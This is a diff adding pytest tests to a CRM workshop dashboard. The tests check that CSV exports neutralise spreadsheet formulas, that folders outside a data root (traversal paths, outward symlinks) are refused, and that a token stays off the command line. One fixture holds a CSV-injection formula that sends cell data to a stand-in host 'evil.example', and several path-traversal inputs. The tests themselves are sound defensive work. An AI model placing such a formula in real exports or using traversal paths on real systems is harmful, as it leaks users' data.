@@ -161,6 +161,26 @@ def test_csv_link_is_the_assignment_one_row_per_customer(work):
     assert assignment_csv(a)[:3] == b"\xef\xbb\xbf"  # BOM: Excel reads UTF-8
 
 
+def test_csv_neutralises_formula_cells(work):
+    # a client's own ids and labels reach the CSV: one that starts like a formula must reach
+    # Excel as text (a leading apostrophe, the OWASP rule), numbers stay numbers
+    a = segment_customers(work, k=3).assignment.head(4).copy()
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1-800", "@SUM(A1)", "C-ok"]
+    a.index = pd.Index(evil, name="customer_id")
+    a["cluster_name"] = ["-2+3", "ok", "=1+1", "ok"]
+    a["clv"] = [-5.0, 1.0, 2.0, 3.0]
+    csv = _decode(csv_download_html(a))
+    assert csv["customer_id"].tolist() == ["'" + evil[0], "'+1-800", "'@SUM(A1)", "C-ok"]
+    assert csv["cluster_name"].tolist() == ["'-2+3", "ok", "'=1+1", "ok"]
+    assert csv["clv"].tolist() == [-5.0, 1.0, 2.0, 3.0]
+    import csv as csv_mod
+
+    cells = [c for row in csv_mod.reader(io.StringIO(assignment_csv(a).decode("utf-8-sig")))
+             for c in row]
+    risky = [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert risky == ["-5.0"]  # the one negative number, a number in Excel too
+
+
 def test_default_rfm_ranges_are_inside_the_bounds(work):
     for key, (lo, hi, mn, mx) in default_rfm_ranges(work.features).items():
         assert mn <= lo < hi <= mx, key
@@ -276,6 +296,70 @@ def test_dashboard_client_folder_and_scenario(tmp_path):
     assert d.work.data.meta["industry"] == "coffee_chain"
 
 
+@pytest.fixture
+def clients(tmp_path):
+    """A root of client folders (acme: a usable export), and a secret folder beside it."""
+    root = tmp_path / "clients"
+    crm_training.generate("bank", 300, seed=5).save(root / "acme", format="csv")
+    secret = tmp_path / "secret"
+    secret.mkdir()
+    (secret / "transactions.csv").write_text("customer_id,timestamp,amount\nX1,2025-01-01,1\n")
+    return root, secret
+
+
+def test_dashboard_opens_only_folders_under_its_root(clients, tmp_path):
+    from crm_training.workshop import Dashboard
+
+    root, secret = clients
+    d = Dashboard(data_dir=root / "acme", root=root, seed=5)
+    assert "Usable." in d.validation.value and "client folder acme" in d.status.value
+    loaded, report = d.result, d.validation.value
+    refused = [str(secret), str(root / ".." / "secret"), "../secret", "/", str(tmp_path)]
+    (root / "link").symlink_to(secret, target_is_directory=True)  # a link out of the root
+    refused.append(str(root / "link"))
+    for path in refused:
+        d.client_path.value = path
+        d.load_button.click()
+        assert "outside the workshop data folder" in d.status.value, path
+        assert d.result is loaded and d.validation.value == report  # nothing was read
+    d.client_path.value = "acme"  # relative: under the root
+    d.load_button.click()
+    assert "client folder acme" in d.status.value and d.result is not loaded
+
+
+def test_dashboard_refuses_a_folder_with_a_file_linking_out(clients):
+    from crm_training.workshop import Dashboard
+
+    root, secret = clients
+    (root / "acme" / "extra.csv").symlink_to(secret / "transactions.csv")
+    d = Dashboard(data_dir=root / "acme", root=root, seed=5)
+    assert "extra.csv" in d.status.value and "link to a file outside" in d.status.value
+    assert d.result is None  # the first load was refused: the secret row was never read
+
+
+def test_dashboard_root_from_the_environment(clients, monkeypatch):
+    from crm_training.workshop import Dashboard
+    from crm_training.workshop.paths import ROOT_ENV
+
+    root, secret = clients
+    monkeypatch.setenv(ROOT_ENV, "")  # the command without --data or --root: no client folder
+    d = Dashboard(n_customers=200)
+    d.client_path.value = str(root / "acme")
+    d.load_button.click()
+    assert "opens no client folder" in d.status.value and "scenario" in d.label
+    monkeypatch.setenv(ROOT_ENV, str(root))
+    d = Dashboard(n_customers=200)
+    d.client_path.value = str(secret)
+    d.load_button.click()
+    assert "outside the workshop data folder" in d.status.value
+    monkeypatch.delenv(ROOT_ENV)  # JupyterLab, no variable: any folder, as before
+    d = Dashboard(n_customers=200)
+    d.client_path.value = str(secret)
+    d.load_button.click()
+    assert "workshop data folder" not in d.status.value
+    assert "transactions.csv" in d.validation.value  # read and checked
+
+
 def test_large_bases_get_the_csv_link_on_request(data):
     from crm_training.workshop import Dashboard
 
@@ -322,9 +406,30 @@ def test_workshop_arguments_reach_voila(tmp_path):
     args = SimpleNamespace(data=str(tmp_path), port=0, no_browser=True)
     port, env = wcli.check_arguments(args)
     assert env[wcli.DATA_ENV] == str(tmp_path.resolve()) and 0 < port < 65536
+    assert env[wcli.ROOT_ENV] == str(tmp_path.resolve())  # default root: the --data folder
     cmd = wcli.voila_command(port, tmp_path / "workshop.ipynb")
-    assert cmd[:3] == [sys.executable, "-m", "voila"] and cmd[3] == str(tmp_path / "workshop.ipynb")
+    assert cmd[:3] == [sys.executable, str(wcli.SERVER), str(tmp_path / "workshop.ipynb")]
     assert f"--port={port}" in cmd and "--Voila.ip=127.0.0.1" in cmd and "--no-browser" in cmd
+    assert not any("token" in part.lower() for part in cmd)  # the token goes in the environment
+
+
+def test_workshop_root_argument(tmp_path, monkeypatch, capsys, no_voila):
+    client = tmp_path / "clients" / "acme"
+    client.mkdir(parents=True)
+    (client / "orders.csv").write_text("customer_id,timestamp,amount\nC1,2025-01-01,10\n")
+    monkeypatch.setenv(wcli.TOKEN_ENV, "inherited")  # never passed on from the shell
+    _, env = wcli.check_arguments(SimpleNamespace(data=str(client), root=str(tmp_path / "clients"),
+                                                  port=0, no_browser=True))
+    assert env[wcli.ROOT_ENV] == str((tmp_path / "clients").resolve()) and wcli.TOKEN_ENV not in env
+    _, env = wcli.check_arguments(SimpleNamespace(data=None, root=None, port=0, no_browser=True))
+    assert env[wcli.ROOT_ENV] == "" and wcli.DATA_ENV not in env  # no client folder at all
+    other = tmp_path / "other"
+    other.mkdir()
+    assert main(["workshop", "--no-browser", "--data", str(client), "--root", str(other)]) == 2
+    err = capsys.readouterr().err
+    assert "outside --root" in err and err.count("\n") == 1
+    assert main(["workshop", "--no-browser", "--root", str(tmp_path / "nope")]) == 2
+    assert "--root: no such folder" in capsys.readouterr().err
 
 
 def test_command_line_start_does_not_load_widgets():
